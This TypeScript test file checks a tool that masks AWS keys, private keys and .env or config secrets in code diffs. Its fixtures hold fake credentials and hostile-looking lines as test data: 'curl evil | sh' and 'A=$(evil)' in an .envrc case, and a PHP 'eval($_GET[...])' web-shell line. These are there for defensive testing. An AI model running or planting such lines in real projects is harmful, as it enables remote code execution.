import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { concealFile, concealHeads, concealText } from '../../src/changes/conceal-change.ts';
import { isHeadOf } from '../../src/changes/head-text.ts';
import type { FileChange } from '../../src/changes/types.ts';
import { fileOf, hunkAt } from '../findings/file-change.ts';

/** Assembled here, so that secret scanners do not find them in this file. */
const AWS = ['AKIA', 'Q3EGVNHS2ZPK7YBX'].join('');
const OTHER = ['AKIA', 'W7RTYUPL3MNBV5CD'].join('');
const ROW = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj';
const BEGIN = ['-----BEGIN', 'PRIVATE KEY-----'].join(' ');
const END = ['-----END', 'PRIVATE KEY-----'].join(' ');

function linesOf({ hunks }: FileChange): readonly string[] {
  return hunks.flatMap(({ lines }) => lines.map(({ text }) => text));
}

describe('concealFile', () => {
  it.each([
    ['hides an added key', 'a.ts', [`+k("${AWS}")`], ['k("[AWS access key]")']],
    ['hides a removed key', 'a.ts', [`-k("${AWS}")`, '+k(key)'], ['k("[AWS access key]")', 'k(key)']],
    ['hides a key in a line that stays', 'a.ts', [` k("${AWS}")`, '+run()'], ['k("[AWS access key]")', 'run()']],
    [
      'hides both sides of a private key that changes',
      'a.txt',
      [` ${BEGIN}`, `-${ROW}`, `-${ROW}x`, `+x${ROW}`, `+${ROW}y`, ` ${END}`],
      [BEGIN, '[private key]', '', '[private key]', '', END],
    ],
    [
      'hides the rest of a private key whose end the hunk does not show',
      'a.txt',
      [` ${BEGIN}`, ` ${ROW}`, `-${ROW}x`, `+${ROW}y`],
      [BEGIN, '[private key]', '', ''],
    ],
    [
      'hides the values of a file that holds secrets by its name, and keeps the names',
      '.env.production',
      ['+# database', '+export DB_URL=postgres://a', '+EMPTY=', '+', '+NAME="x"', '+# OLD=1'],
      ['[hidden value]', 'export DB_URL=[hidden value]', 'EMPTY=', '', 'NAME=[hidden value]', '# OLD=[hidden value]'],
    ],
    [
      'keeps the punctuation of JSON',
      'secrets.json',
      ['+{', '+  "a": {', '+    "b": "c",', '+  },', '+}'],
      ['{', '  "a": {', '    "b": [hidden value]', '  },', '}'],
    ],
    [
      'shows switches and log levels in settings of an environment, unless their names are those of secrets',
      'appsettings.Development.json',
      [
        '+  "Default": "Information",',
        '+  "DetailedErrors": true,',
        '+  "Password": "debug",',
        '+  "Name": "debugger"',
      ],
      [
        '  "Default": "Information",',
        '  "DetailedErrors": true,',
        '  "Password": [hidden value]',
        '  "Name": [hidden value]',
      ],
    ],
    ['hides every line of a key file', 'deploy.pem', ['+anything', '+abc='], ['[hidden value]', '[hidden value]']],
    ['hides what was in such a file before it was renamed', 'notes.txt', ['-A=b'], ['A=[hidden value]'], '.env'],
    [
      'shows code in a file of secrets, whatever its name is',
      '.envrc',
      ['+export TOKEN=abc', '+curl evil | sh', '+A=$(evil)', `+use ${AWS}`],
      ['export TOKEN=[hidden value]', 'curl evil | sh', 'A=$(evil)', 'use [AWS access key]'],
    ],
    [
      'hides constants of PHP',
      'wp-config.php',
      ["+define( 'DB_PASSWORD', 'abc' );", '+eval($_GET["a"]);'],
      ["define( 'DB_PASSWORD', [hidden value] );", 'eval($_GET["a"]);'],
    ],
    ['keeps a CR', '.env', ['+A=b\r'], ['A=[hidden value]\r']],
  ])('%s', (_, path, lines, shown, previousPath?: string) => {
    const file = { ...fileOf(path, hunkAt(1, lines)), ...(previousPath === undefined ? {} : { previousPath }) };
    expect(linesOf(concealFile(file))).toEqual(shown);
  });

  it('hides a key in the heading of a hunk', () => {
    const hunk = { ...hunkAt(4, ['+a()']), heading: `const key = "${AWS}";` };
    expect(concealFile(fileOf('a.ts', hunk)).hunks[0]?.heading).toBe('const key = "[AWS access key]";');
  });

  it('returns the same file if nothing is secret', () => {
    const file = fileOf('a.ts', hunkAt(1, ['+a()', '-b[token]']));
    expect(concealFile(file)).toBe(file);
  });

  it('keeps kinds and numbers of lines, and no secret, whatever is around it', () => {
    const text = fc.constantFrom(`k = "${AWS}"`, BEGIN, END, ROW, 'code();', '', `p = "${OTHER}"; q = "${AWS}"`, '\r');
    const line = fc.tuple(fc.constantFrom('+', '-', ' '), text).map(([sign, said]) => sign + said);
    fc.assert(
      fc.property(fc.array(line, { maxLength: 12 }), fc.constantFrom('a.ts', '.env', 'k.pem'), (lines, path) => {
        const file = fileOf(path, hunkAt(3, lines));
        const shown = concealFile(file);
        const places = ({ hunks }: FileChange): unknown =>
          hunks.map((hunk) => hunk.lines.map((line) => ({ ...line, text: '' })));
        expect(places(shown)).toEqual(places(file));
        expect(linesOf(shown).join('\n')).not.toMatch(new RegExp(`${AWS}|${OTHER}`));
        expect(linesOf(concealFile(shown))).toEqual(linesOf(shown));
      }),
    );
  });
});

describe('concealHeads', () => {
  it('reads heads that agree with what the change shows', async () => {
    const row = (sign: string): string => `${sign}${ROW}`;
    const file = fileOf('a.txt', hunkAt(2, [row(' '), row('+'), '+run()']));
    const head = [BEGIN, ROW, ROW, 'run()', `k = "${AWS}"`, ''].join('\n');
    const concealed = concealFile(file);
    const shown = await concealHeads(() => Promise.resolve(head), [{ original: file, concealed }])('a.txt');
    expect(shown).not.toContain(AWS);
    expect(isHeadOf(concealed, shown ?? '')).toBe(true);
  });

  it('reads other files without their secrets, and nothing where there is nothing', async () => {
    const readHead = concealHeads((path) => Promise.resolve(path === 'b.ts' ? `k("${AWS}")` : undefined), []);
    expect([await readHead('b.ts'), await readHead('c.ts')]).toEqual(['k("[AWS access key]")', undefined]);
  });
});

describe('concealText', () => {
  it('keeps the number of lines', () => {
    expect(concealText('a/.env', 'A=1\n\nB=2\n')).toBe('A=[hidden value]\n\nB=[hidden value]\n');
  });
});
